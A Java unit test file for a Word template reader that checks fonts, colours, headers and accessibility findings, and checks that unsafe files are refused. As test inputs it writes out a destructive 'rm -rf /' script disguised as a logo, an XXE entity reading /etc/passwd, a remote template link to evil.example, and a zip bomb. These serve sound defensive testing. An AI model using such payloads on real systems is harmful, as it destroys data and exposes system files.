package cabinetpapers.wordreader;

import static org.assertj.core.api.Assertions.assertThat;

import cabinetpapers.finding.Finding;
import cabinetpapers.finding.Findings;
import cabinetpapers.finding.Severity;
import cabinetpapers.house.Colour;
import cabinetpapers.house.HouseStyle.Furniture;
import cabinetpapers.house.HouseStyle.HeadingLook;
import cabinetpapers.house.HouseStyle.Logo;
import cabinetpapers.house.HouseStyle.Page;
import cabinetpapers.house.HouseStyle.Sizes;
import cabinetpapers.house.HouseStyle.Spacing;
import cabinetpapers.house.HouseStyle.Weight;
import cabinetpapers.house.TemplateLook;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WordTemplateReaderTest {

    private static final byte[] FERNSHIRE = CouncilTemplates.fernshire();

    @Test
    void fontsSizesColoursAndSpacingAreThoseOfTheTemplatesStylesAndTheme() {
        TemplateLook look = read(FERNSHIRE, new Findings()).orElseThrow().look();

        assertThat(look.fontFamily()).isEqualTo("Calibri");
        assertThat(look.lettering().headingFont()).isEqualTo("Calibri");
        assertThat(look.sizes()).isEqualTo(new Sizes(List.of(22.0, 15.0, 13.0, 12.0), 12, 10.5, 10.5, 9));
        assertThat(look.text()).isEqualTo(Colour.of("#000000"));
        assertThat(look.heading()).isEqualTo(Colour.of("#1B5E3A"));
        assertThat(look.lettering().headings())
                .containsExactly(
                        new HeadingLook(look.heading(), Weight.REGULAR, Optional.of(new Spacing(18, 6, 1.2))),
                        new HeadingLook(look.heading(), Weight.BOLD, Optional.of(new Spacing(14, 4, 1.2))));
        assertThat(look.lettering().body()).contains(new Spacing(0, 8, 1.2));
    }

    @Test
    void aLogoThatIsNoPictureIsRefused() {
        Findings findings = new Findings();

        assertThat(read(Zips.changed(FERNSHIRE, picture(), png -> "#!/bin/sh\nrm -rf /\n"), findings))
                .isEmpty();
        assertThat(findings.list())
                .filteredOn(finding -> finding.severity() == Severity.BLOCKER)
                .extracting(Finding::text)
                .isNotEmpty()
                .allMatch(text -> text.contains("what says that it is a picture (image/png) is none"));
    }

    @Test
    void aLogoThatOnlyBeginsAsAPictureStandsInWordOnlyAndSaysSo() {
        Findings findings = new Findings();

        assertThat(read(Zips.changed(FERNSHIRE, picture(), png -> "GIF89a and nothing more"), findings))
                .isPresent();
        assertThat(findings.list()).extracting(Finding::text).anyMatch(text -> text.contains("stands in Word only"));
    }

    private static String picture() {
        return Zips.parts(FERNSHIRE).keySet().stream()
                .filter(name -> name.endsWith(".png"))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void aYearInAFooterHasItsHyphenHoweverWordSplitsIt() {
        String run = "<w:r><w:noBreakHyphen/></w:r>";
        byte[] file = Zips.changed(
                FERNSHIRE,
                footer(),
                xml -> xml.replace(
                        "County Hall, Fernbridge",
                        "well</w:t></w:r>" + run + "<w:r><w:t>being 2023</w:t></w:r>" + run + "<w:r><w:t>24"));

        TemplateLook look = read(file, new Findings()).orElseThrow().look();

        assertThat(look.footer().orElseThrow().left()).isEqualTo("well\u2011being 2023-24");
    }

    private static String footer() {
        return Zips.parts(FERNSHIRE).keySet().stream()
                .filter(name -> name.startsWith("word/footer"))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void aHeaderHigherThanItsMarginPushesTheTextDown() {
        Page page = read(FERNSHIRE, new Findings()).orElseThrow().look().page();

        assertThat(page.left()).isEqualTo(56.7);
        assertThat(page.bottom()).isEqualTo(56.7);
        // 28.35 from the edge, a logo of 50 on the first page, a little below the line, and room
        assertThat(page.top()).isBetween(28.35 + 50, 28.35 + 50 + 20);
    }

    @Test
    void headerAndFooterAreReadWithTheirPicturesFieldsAndTabs() {
        TemplateLook look = read(FERNSHIRE, new Findings()).orElseThrow().look();

        Furniture header = look.header().orElseThrow();
        assertThat(header.fromEdge()).contains(28.35);
        assertThat(header.right()).isEqualTo("{title}");
        assertThat(header.logos()).hasSize(1);
        Logo logo = header.logos().getFirst();
        assertThat(logo.alternativeText()).isEqualTo("Fernshire County Council");
        assertThat(List.of(logo.width(), logo.height())).containsExactly(90.0, 30.0);
        assertThat(look.footer().orElseThrow().left()).isEqualTo("County Hall, Fernbridge");
        assertThat(look.footer().orElseThrow().right()).isEqualTo("Page {page}");
        assertThat(look.firstHeader().orElseThrow().logos().getFirst().width()).isEqualTo(150);
        assertThat(look.firstFooter().orElseThrow().lines()).isEmpty();
    }

    @Test
    void whatTheTemplateLacksAndWhatSomeCannotReadIsFound() {
        Findings findings = new Findings();
        read(FERNSHIRE, findings);

        assertThat(texts(findings))
                .containsExactly(
                        "t.dotx: it has no style heading 3, caption, List Number; papers have their own there."
                                + " Add them in Word if they shall look otherwise.",
                        "t.dotx paragraph \"Type your report here\": it looks like a heading but has no heading style."
                                + " Give it the style Heading 1, 2 or 3; its own look is not used.",
                        "t.dotx first header: a picture has no alternative text."
                                + " Say in Word (Edit alt text) what it shows, or mark it as decorative.");
    }

    /** Old and new text stand for one change to Fernshire's styles. */
    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                "<a:srgbClr val=\"1B5E3A\"/>; <a:srgbClr val=\"7FBF9F\"/>; hole style heading 1: its colour #7FBF9F on white has a contrast of 2.13 to 1, and needs 4.5",
                "<w:sz w:val=\"24\"/>; <w:sz w:val=\"20\"/>; note style Normal: body text of 10 points is small for many readers",
                "<w:sz w:val=\"44\"/>; <w:caps/>; note style heading 2: it is all in capitals, which are hard to read and which some screen readers spell out",
                "<w:name w:val=\"Normal\"/>; <w:name w:val=\"Normal\"/><w:pPr><w:jc w:val=\"both\"/></w:pPr>; note style Normal: it is justified: the uneven gaps between words hinder people with dyslexia",
            })
    void barriersToReadersAreReported(String old, String changed, String expected) {
        Findings findings = new Findings();
        byte[] file = FERNSHIRE;
        for (String part : List.of("word/styles.xml", "word/theme/theme1.xml")) {
            Map<String, byte[]> parts = Zips.parts(file);
            if (new String(parts.getOrDefault(part, new byte[0]), StandardCharsets.UTF_8).contains(old)) {
                file = Zips.changed(file, part, text -> text.replace(old, changed));
            }
        }
        assertThat(read(file, findings)).isPresent();

        String severity = expected.substring(0, expected.indexOf(' '));
        String fact = expected.substring(expected.indexOf(' ') + 1);
        assertThat(findings.list()).anySatisfy(finding -> {
            assertThat(finding.severity().name()).isEqualToIgnoringCase(severity);
            assertThat(finding.text()).startsWith("t.dotx " + fact + ".");
        });
    }

    @Test
    void macrosAreRefused() {
        refused(
                changed(
                        "[Content_Types].xml",
                        text -> text.replace(
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
                "t.dotx: it holds macros. Save it in Word as .dotx, which holds none.");
    }

    @Test
    void aDocumentTypeIsRefusedSinceItsEntitiesCouldFetchFiles() {
        refused(
                changed(
                        "word/styles.xml",
                        text -> "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                "t.dotx part word/styles.xml: it declares a document type, which Word never does."
                        + " Open the template in Word and save it again.");
    }

    @Test
    void aFileThatUnpacksWithoutEndIsRefused() {
        Map<String, byte[]> parts = new LinkedHashMap<>(Zips.parts(FERNSHIRE));
        parts.put("word/media/zeros.png", new byte[80 << 20]);

        refused(
                Zips.of(parts),
                "t.dotx: it unpacks to more than 64 MB or 1000 parts."
                        + " Save a template without large pictures; a file that unpacks so far may be an attack.");
    }

    @Test
    void aStrictDocumentIsRefusedWithItsRemedy() {
        refused(
                changed(
                        "word/document.xml",
                        text -> text.replace(
                                "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                                "http://purl.oclc.org/ooxml/wordprocessingml/main")),
                "t.dotx: it is a Strict Open XML document. Save it in Word as \"Word Template\" or \"Word Document\".");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "%PDF-1.7", "PK\u0003\u0004", "just words"})
    void whatIsNoWordFileIsAFinding(String content) {
        Findings findings = new Findings();

        assertThat(read(content.getBytes(StandardCharsets.ISO_8859_1), findings))
                .isEmpty();
        assertThat(findings.blocked()).isTrue();
    }

    @Test
    void nothingIsFetchedFromOutside() {
        Findings findings = new Findings();
        String type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        byte[] file = changed(
                "word/_rels/document.xml.rels",
                text -> text.replace(
                        "</Relationships>",
                        "<Relationship Id=\"out1\" Type=\"" + type
                                + "attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"
                                + "<Relationship Id=\"out2\" Type=\"" + type
                                + "hyperlink\" Target=\"https://fernshire.example/\" TargetMode=\"External\"/>"
                                + "<Relationship Id=\"out3\" Type=\"" + type
                                + "hyperlink\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>"
                                + "</Relationships>"));

        TemplateReading reading = read(file, findings).orElseThrow();

        assertThat(reading.look().template().part("word/document.xml").targets())
                .containsKey("out2")
                .doesNotContainKeys("out1", "out3");
        assertThat(texts(findings))
                .contains("t.dotx part word/document.xml: it refers to https://evil.example/t.dotm, outside the file"
                        + " (attachedTemplate), which was left out."
                        + " Put pictures into the template itself; links to web pages stay.");
    }

    @ParameterizedTest(name = "seed {0}")
    @ValueSource(longs = {1, 2, 3})
    void aTemplateThatSomebodyBrokeNeverThrows(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        List<String> parts = Zips.parts(FERNSHIRE).keySet().stream()
                .filter(name -> name.endsWith(".xml") || name.endsWith(".rels"))
                .toList();
        List<String> values = List.of("\"-1\"", "\"\"", "\"999999999999\"", "\"x\"", "\"../../x\"", "\"0\"");
        for (int i = 0; i < 60; i++) {
            String part = parts.get(random.nextInt(parts.size()));
            String value = values.get(random.nextInt(values.size()));
            Map<String, byte[]> broken = Zips.parts(FERNSHIRE);
            String text = new String(broken.getOrDefault(part, new byte[0]), StandardCharsets.UTF_8);
            String[] pieces = text.split("\"[^\"]*\"", -1);
            int at = random.nextInt(pieces.length);
            Matcher quoted = Pattern.compile("\"[^\"]*\"").matcher(text);
            StringBuilder changed = new StringBuilder();
            for (int found = 0; quoted.find(); found++) {
                quoted.appendReplacement(changed, Matcher.quoteReplacement(found == at ? value : quoted.group()));
            }
            quoted.appendTail(changed);
            broken.put(part, changed.toString().getBytes(StandardCharsets.UTF_8));
            Findings findings = new Findings();

            Optional<TemplateReading> reading = read(Zips.of(broken), findings);

            assertThat(reading.isPresent()).as(part + " " + at + " " + value).isEqualTo(!findings.blocked());
        }
    }

    private static byte[] changed(String part, UnaryOperator<String> change) {
        return Zips.changed(FERNSHIRE, part, change);
    }

    private static void refused(byte[] file, String... texts) {
        Findings findings = new Findings();

        assertThat(read(file, findings)).isEmpty();
        assertThat(texts(findings)).containsExactly(texts);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    word/document.xml | <w:pgBorders/>               | papers leave out its page borders
                    word/document.xml | <w:cols w:num="2"/>          | papers leave out its columns
                    word/styles.xml   | <w:pPr><w:jc w:val="center"/></w:pPr>       | in Word only: centring of heading 2
                    word/styles.xml   | <w:pPr><w:pBdr/></w:pPr>     | in Word only: borders of heading 2
                    word/styles.xml   | <w:rPr><w:smallCaps/></w:rPr>| in Word only: capitals of heading 2
                    word/styles.xml   | <w:rPr><w:i/></w:rPr>        | in Word only: italics of heading 2
                    word/styles.xml   | <w:rPr><w:spacing w:val="20"/></w:rPr>  | in Word only: letter spacing of heading 2
                    word/styles.xml   | <w:rPr><x:glow xmlns:x="http://schemas.microsoft.com/office/word/2010/wordml"/></w:rPr> | text effects of newer versions of Word
                    word/styles.xml   | <w:pPr><w:numPr><w:numId w:val="7"/></w:numPr></w:pPr> | the numbers of heading 2 are left out
                    """)
    void whatPapersDoNotTakeIsSaid(String part, String extra, String note) {
        byte[] file = Zips.changed(
                FERNSHIRE,
                part,
                xml -> part.endsWith("document.xml")
                        ? xml.replaceFirst("(<w:sectPr[^>]*>)", "$1" + extra)
                        : xml.replaceFirst(
                                "(<w:style (?:(?!</w:style>).)*<w:name w:val=\"heading 2\"/>(?:(?!</?w:pPr>|</?w:rPr>|</w:style>).)*)",
                                "$1" + extra));
        Findings findings = new Findings();

        assertThat(read(FERNSHIRE, new Findings())).isPresent();
        assertThat(read(file, findings)).isPresent();
        assertThat(texts(findings)).anyMatch(text -> text.contains(note));
        Findings without = new Findings();
        read(FERNSHIRE, without);
        assertThat(texts(without)).noneMatch(text -> text.contains(note));
    }

    @ParameterizedTest
    @ValueSource(strings = {"heading 4", "heading 6", "Hyperlink", "footnote text", "toc 1", "List Bullet"})
    void everyStyleThatPapersUseIsLookedAtForItsContrast(String name) {
        String style = "<w:style w:type=\"paragraph\" w:styleId=\"Pale\"><w:name w:val=\"" + name
                + "\"/><w:rPr><w:color w:val=\"999999\"/></w:rPr></w:style>";
        byte[] file = Zips.changed(
                FERNSHIRE,
                "word/styles.xml",
                xml -> xml.replaceFirst("<w:name w:val=\"" + name + "\"/>", "<w:name w:val=\"other\"/>")
                        .replace("</w:styles>", style + "</w:styles>"));
        Findings findings = new Findings();

        read(file, findings);

        assertThat(texts(findings))
                .anyMatch(text -> text.contains("style " + name + ": its colour #999999 on white has a contrast of"));
    }

    @Test
    void aShapeInTheFooterIsSaidToStandInWordOnly() {
        byte[] file = Zips.changed(
                FERNSHIRE,
                footer(),
                xml -> xml.replaceFirst(
                        "<w:r>",
                        "<w:r><w:rPr><w:color w:val=\"1B5E3A\"/></w:rPr><w:pict><v:rect xmlns:v=\"urn:schemas-microsoft-com:vml\"/>"
                                + "</w:pict></w:r><w:r>"));
        Findings findings = new Findings();

        read(file, findings);

        assertThat(texts(findings))
                .anyMatch(text -> text.contains("footer: a shape, chart or object that is no picture is left out"))
                .anyMatch(text -> text.contains("footer: its colours and bold letters stand in Word only"));
    }

    /** As Word writes it: a shape, and in old markup a rectangle, with the words within. */
    @Test
    void aTextBoxInTheFooterIsToldOnceAndIsNoShape() {
        String words = "<w:txbxContent><w:p><w:r><w:t>Printed in Fernbridge</w:t></w:r></w:p></w:txbxContent>";
        String shape = "<wps:wsp xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">"
                + "<wps:txbx>" + words + "</wps:txbx></wps:wsp>";
        String rectangle =
                "<v:rect xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox>" + words + "</v:textbox></v:rect>";
        byte[] file = Zips.changed(
                FERNSHIRE,
                footer(),
                xml -> xml.replaceFirst(
                        "<w:r>",
                        "<w:r><mc:AlternateContent "
                                + "xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\">"
                                + "<mc:Choice Requires=\"wps\"><w:drawing>" + shape + "</w:drawing></mc:Choice>"
                                + "<mc:Fallback><w:pict>" + rectangle + "</w:pict></mc:Fallback>"
                                + "</mc:AlternateContent></w:r><w:r>"));
        Findings findings = new Findings();

        read(file, findings);

        assertThat(texts(findings))
                .filteredOn(text -> text.contains("text box") || text.contains("a shape"))
                .singleElement()
                .asString()
                .contains("footer: a text box stands in Word only");
    }

    private static Optional<TemplateReading> read(byte[] file, Findings findings) {
        return WordTemplateReader.read("t.dotx", file, findings);
    }

    private static List<String> texts(Findings findings) {
        return findings.list().stream().map(Finding::text).toList();
    }
}
